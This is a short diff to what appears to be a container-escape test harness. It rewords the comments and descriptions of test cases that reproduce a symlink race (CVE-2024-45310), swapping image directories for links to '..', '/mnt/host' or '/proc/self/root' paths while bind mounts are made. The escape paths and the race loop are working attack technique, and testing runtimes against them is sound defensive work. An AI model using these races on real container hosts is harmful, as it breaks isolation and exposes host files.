@@ -9,12 +9,12 @@ from box import IMAGE, SHARE
 
 RENAME_EXCHANGE = 2
 ROUNDS = 25
-# Where none has started by then, all of them have met the link. Some more will do.
+# If no container has started by then, all of them found the link. A few more rounds are enough.
 MOST_ROUNDS = 2000
 
 
 def exchange(first, second, uid):
-    """As fast as it can, until it is ended. In a session of its own."""
+    """Exchanges them as fast as it can, in a session of its own, until it is killed."""
     pid = os.fork()
     if pid == 0:
         os.setsid()
@@ -51,7 +51,7 @@ def race(link, target, name="data"):
 RACE = "races: directories of the image are now links that lead out, while it starts (CVE-2024-45310)"
 for LINK, TARGET in ((".", "/data/"), ("..", "/data/"), ("../../mnt/host", "/data/made"), ("/proc/self/root/../mnt/host", "/data/made"),
                      ("..", "/data/sub/"), ("../../mnt/host", "/data/sub/made/deep")):
-    attack("A", f"race-{LINK}-{TARGET}", f"a race: `data` of the image is now a directory, now a link to `{LINK}`, and a bind goes to `{TARGET}` (CVE-2024-45310)",
+    attack("A", f"race-{LINK}-{TARGET}", f"a race: `data` of the image is now a directory, now a link to `{LINK}`, while a bind is made on `{TARGET}` (CVE-2024-45310)",
            rounds=ROUNDS, modes=("terminal",), may_refuse=True, family=RACE)(race(LINK, TARGET))
 for NAME in ("dev", "proc", "sys"):
     attack("A", f"race-{NAME}", f"the same of the image's `/{NAME}`", rounds=ROUNDS, modes=("terminal",), may_refuse=True, family=RACE)(
